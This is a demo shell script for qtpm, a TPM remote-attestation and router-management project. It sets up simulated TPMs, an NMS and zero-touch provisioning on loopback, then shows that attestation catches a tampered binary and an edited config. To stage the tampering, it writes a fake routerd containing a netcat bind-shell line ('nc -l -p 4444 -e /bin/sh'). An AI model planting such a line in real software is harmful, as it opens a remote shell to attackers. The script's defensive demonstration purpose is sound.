#!/bin/sh
# SPDX-License-Identifier: BSD-2-Clause
# demo-dm.sh — the device-management story of qtpm, narrated (`make demo`).
#
#   scripts/demo-dm.sh [BUILD_DIR] [--routers N] [--swtpm] [--quick] [--ztp]
#
# --ztp (or DEMO_ZTP=1): the routers join by secure zero-touch provisioning (docs/ZTP.md):
# the vendor issues ownership vouchers, the operator puts signed onboarding information on
# a bootstrap server (qtpm-ztp), and each router, knowing no NMS, bootstraps itself.
#
# A router vendor signs a reference digest list of its router image; the
# operator's NMS (qtpm-nms on SQLite) trusts the vendor's EK CA and list;
# N routers — each a TPM (qtpm-server, or swtpm with --swtpm) with an EK
# certificate from the vendor's factory, and a qtpm-agent measuring its copy
# of the image — enrol (MakeCredential/ActivateCredential → AK certificate)
# and attest (quote + IMA-format list → verdict). Then one router is attacked:
# a binary of its image is replaced, the agent measures it as IMA would, and
# the very next attestation turns the router bad, with the file named, and
# the router's TPM-resident TLS key stops working: it signs only with an NMS
# approval of the PCR values, which a bad router does not get (implicit
# attestation).
# Everything runs on loopback in a temporary directory that is removed at
# the end, whatever happens; every process started here is stopped.
# DEMO_DB=URL puts the NMS on another database (e.g. postgresql:CONNINFO).
set -eu

build=build
routers=3
use_swtpm=
quick=
ztp=${DEMO_ZTP:-}
while [ $# -gt 0 ]; do
    case $1 in
    --routers) routers=$2; shift 2 ;;
    --swtpm) use_swtpm=1; shift ;;
    --quick) quick=1; shift ;;
    --ztp) ztp=1; shift ;;
    -*) echo "demo-dm.sh: unknown option $1" >&2; exit 2 ;;
    *) build=$1; shift ;;
    esac
done
build=$(cd "$build" && pwd)
nms=$build/src/nms/qtpm-nms
agent=$build/src/agent/qtpm-agent
dl=$build/src/attest/qtpm-digestlist
server=$build/src/server/qtpm-server
mfg=$build/src/manufacture/qtpm-manufacture
qtpm=$build/src/cli/qtpm
for b in "$nms" "$agent" "$dl" "$server" "$mfg" "$qtpm"; do
    [ -x "$b" ] || { echo "demo-dm.sh: $b is missing (run make build)" >&2; exit 2; }
done

tmp=$(mktemp -d "${TMPDIR:-/tmp}/qtpm-dm.XXXXXX")
pids=
cleanup() {
    for p in $pids; do kill "$p" 2>/dev/null || true; done
    for p in $pids; do wait "$p" 2>/dev/null || true; done
    rm -rf "$tmp"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

t_start=$(date +%s%N)
say() { printf '\n== %s\n' "$*"; }
# Runs a command, shows its output indented; stops the demo when it fails.
run() {
    if "$@" > "$tmp/run.out" 2>&1; then
        sed 's/^/   /' "$tmp/run.out"
    else
        rc=$?
        sed 's/^/   /' "$tmp/run.out"
        echo "demo-dm.sh: failed ($rc): $*" >&2
        exit 1
    fi
}
ms_since() { echo $(( ($(date +%s%N) - $1) / 1000000 )); }

free_port_pair() {
    python3 - <<'PY'
import socket
for _ in range(500):
    s = socket.socket(); s.bind(("127.0.0.1", 0)); p = s.getsockname()[1]; s.close()
    try:
        t = socket.socket(); t.bind(("127.0.0.1", p + 1)); t.close()
        print(p); break
    except OSError:
        pass
PY
}
wait_port() {
    tries=0
    while ! python3 -c 'import socket,sys; socket.create_connection(("127.0.0.1", int(sys.argv[1])), 0.3).close()' "$1" 2>/dev/null; do
        tries=$((tries + 1))
        [ $tries -gt 100 ] && { echo "demo-dm.sh: nothing listens on port $1" >&2; return 1; }
        sleep 0.05
    done
}

say "1. The vendor: an EK certificate authority, a router image and its signed digest list"
mkdir -p "$tmp/image/usr/sbin" "$tmp/image/usr/lib/frr" "$tmp/image/etc/frr"
printf '#!/bin/sh\necho routerd 3.4.2\n' > "$tmp/image/usr/sbin/routerd"
printf '#!/bin/sh\necho zebra 8.4\n' > "$tmp/image/usr/lib/frr/zebra"
printf '#!/bin/sh\necho ospfd 8.4\n' > "$tmp/image/usr/lib/frr/ospfd"
printf 'router ospf\n network 10.0.0.0/8 area 0\n' > "$tmp/image/etc/frr/frr.conf"
chmod 755 "$tmp/image/usr/sbin/routerd" "$tmp/image/usr/lib/frr/zebra" "$tmp/image/usr/lib/frr/ospfd"
"$dl" keygen --out-dir "$tmp/vendor" >/dev/null
"$dl" build --vendor acme --image acme-router-os-1.0 --version 1 --root "$tmp/image" \
    --config /etc/frr/frr.conf --mldsa-key "$tmp/vendor/mldsa65.key" \
    --ecdsa-key "$tmp/vendor/ecdsa-p384.key" -o "$tmp/vendor/list.qdl"
run "$dl" show "$tmp/vendor/list.qdl"
echo "   signed with ML-DSA-65 and ECDSA P-384; both signatures must verify"

say "2. The factory: $routers routers, each a TPM with EK certificates from the vendor's CA"
i=1
while [ $i -le "$routers" ]; do
    port=$(free_port_pair)
    mkdir -p "$tmp/r$i"
    if [ -n "$use_swtpm" ]; then
        swtpm_setup --tpm2 --tpmstate "$tmp/r$i" --createek --allow-signing --overwrite \
            >/dev/null 2>&1
        swtpm socket --tpm2 --tpmstate "dir=$tmp/r$i" --server "type=tcp,port=$port" \
            --ctrl "type=tcp,port=$((port + 1))" --flags not-need-init,startup-clear \
            > "$tmp/r$i/tpm.log" 2>&1 &
        tcti="swtpm:host=127.0.0.1,port=$port"
    else
        "$server" --mssim --host 127.0.0.1 --port "$port" --state "$tmp/r$i/tpm" \
            > "$tmp/r$i/tpm.log" 2>&1 &
        tcti="mssim:host=127.0.0.1,port=$port"
    fi
    pids="$pids $!"
    wait_port "$port"
    wait_port "$((port + 1))"
    [ -n "$use_swtpm" ] || "$qtpm" -T "$tcti" startup -c >/dev/null
    algs=mlkem768,eccp256
    ak=mldsa65
    [ -n "$use_swtpm" ] && { algs=eccp256; ak=ecc; }
    run "$mfg" --tcti "$tcti" --ca-dir "$tmp/vendor-ca" --alg "$algs"
    echo "$tcti" > "$tmp/r$i/tcti"
    echo "$ak" > "$tmp/r$i/ak"
    i=$((i + 1))
done

db=${DEMO_DB:-sqlite:$tmp/nms/nms.db}
dbname=SQLite
case $db in postgres*) dbname=PostgreSQL ;; esac
say "3. The operator: qtpm-nms ($dbname) trusts the vendor's EK CA and digest-list keys"
"$nms" init --dir "$tmp/nms" >/dev/null
run "$nms" --db "$db" vendor import --name acme --ca "$tmp/vendor-ca/ca-cert.pem" \
    --mldsa-pub "$tmp/vendor/mldsa65.pub" --ecdsa-pub "$tmp/vendor/ecdsa-p384.pub"
run "$nms" --db "$db" digestlist add "$tmp/vendor/list.qdl"
nms_port=$(free_port_pair)
"$nms" serve --dir "$tmp/nms" --db "$db" --listen "127.0.0.1:$nms_port" \
    --period 5 > "$tmp/nms.log" 2>&1 &
pids="$pids $!"
wait_port "$nms_port"
echo "   listening on https://127.0.0.1:$nms_port (TLS, REST API v1)"

if [ -n "$ztp" ]; then
    ztpb=$build/src/ztp/qtpm-ztp
    say "4z. Zero-touch provisioning: vouchers from the vendor, onboarding information from the operator, on a bootstrap server"
    "$ztpb" vendor-init --dir "$tmp/ztp-vendor" >/dev/null
    "$ztpb" owner-init --dir "$tmp/ztp-owner" --cn "operator" >/dev/null
    openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-384 -nodes -days 2 \
        -subj /CN=bootstrap -keyout "$tmp/bs-key.pem" -out "$tmp/bs-cert.pem" 2>/dev/null
    zport=$(free_port_pair)
    "$ztpb" serve --dir "$tmp/bs" --listen "127.0.0.1:$zport" --cert "$tmp/bs-cert.pem" \
        --key "$tmp/bs-key.pem" --vendor-crl "$tmp/ztp-vendor/crl.pem" > "$tmp/ztp.log" 2>&1 &
    pids="$pids $!"
    wait_port "$zport"
    echo "   bootstrap server on https://127.0.0.1:$zport (RFC 8572 RESTCONF)"
fi
say "4. Each router's agent measures its image, enrols (AK, then a TPM-resident TLS key), attests, and opens mutual TLS with that key"
i=1
while [ $i -le "$routers" ]; do
    mkdir -p "$tmp/r$i/agent"
    cp -a "$tmp/image" "$tmp/r$i/image"
    nms_lines="nms = https://127.0.0.1:$nms_port
ca = $tmp/nms/operator-ca.crt"
    [ -z "$ztp" ] || nms_lines="# no NMS: learnt by zero-touch provisioning"
    cat > "$tmp/r$i/agent.conf" <<CONF
tcti = $(cat "$tmp/r$i/tcti")
$nms_lines
state_dir = $tmp/r$i/agent
hostname = r$i
measure_root = $tmp/r$i/image
ima_source = own
ak = $(cat "$tmp/r$i/ak")
period = 5
CONF
    t0=$(date +%s%N)
    if [ -n "$ztp" ]; then
        serial=$("$agent" serial -c "$tmp/r$i/agent.conf")
        "$ztpb" voucher --vendor-dir "$tmp/ztp-vendor" --serial "$serial" \
            --owner-cert "$tmp/ztp-owner/owner-cert.pem" --out "$tmp/r$i/voucher" >/dev/null
        rm -rf "$tmp/r$i/image/etc/frr/frr.conf" # the configuration comes with the onboarding
        "$ztpb" onboard --owner-dir "$tmp/ztp-owner" --voucher "$tmp/r$i/voucher" \
            --device-dir "$tmp/bs/devices/$serial" --nms "https://127.0.0.1:$nms_port" \
            --nms-ca "$tmp/nms/operator-ca.crt" --image-root "$tmp/r$i/image" \
            --file /etc/frr/frr.conf="$tmp/image/etc/frr/frr.conf" >/dev/null
        t0=$(date +%s%N)
        run "$agent" bootstrap -c "$tmp/r$i/agent.conf" --ztp-url "https://127.0.0.1:$zport" \
            --vendor-ca "$tmp/ztp-vendor/ca-cert.pem" --vendor-mldsa "$tmp/ztp-vendor/mldsa65.pub"
    else
        run "$agent" enrol -c "$tmp/r$i/agent.conf"
    fi
    run "$agent" attest-once -c "$tmp/r$i/agent.conf"
    echo "   r$i: enrolment + first attestation in $(ms_since "$t0") ms"
    i=$((i + 1))
done
run "$nms" --db "$db" router list

[ "$routers" -ge 2 ] || { say "Done (no attack with one router)"; exit 0; }
say "5. The attack: r2's routerd is replaced by a trojaned build"
printf '#!/bin/sh\necho routerd 3.4.2; nc -l -p 4444 -e /bin/sh\n' > "$tmp/r2/image/usr/sbin/routerd"
t0=$(date +%s%N)
"$agent" attest-once -c "$tmp/r2/agent.conf" > "$tmp/run.out" 2>&1 && {
    sed 's/^/   /' "$tmp/run.out"; echo "demo-dm.sh: the attack went unnoticed" >&2; exit 1; }
sed 's/^/   /' "$tmp/run.out"
echo "   verdict within one attestation: $(ms_since "$t0") ms"
r2=$(cat "$tmp/r2/agent/router.id")
run "$nms" --db "$db" router show "$r2"
if [ -n "${DEMO_RESULT:-}" ]; then
    "$nms" --db "$db" router show "$r2" --json > "$DEMO_RESULT"
fi

if [ "$routers" -ge 3 ]; then
    say "6. Configuration integrity: r3's frr.conf is sealed with a TPM-held HMAC key, then edited"
    run "$agent" config-seal -c "$tmp/r3/agent.conf" "$tmp/r3/image/etc/frr/frr.conf"
    run "$agent" config-verify -c "$tmp/r3/agent.conf"
    echo ' redistribute connected' >> "$tmp/r3/image/etc/frr/frr.conf"
    if "$agent" config-verify -c "$tmp/r3/agent.conf" > "$tmp/run.out" 2>&1; then
        echo "demo-dm.sh: the edited configuration was accepted" >&2; exit 1
    fi
    sed 's/^/   /' "$tmp/run.out"
fi

say "Done in $(ms_since "$t_start") ms; every process stopped, $tmp removed"
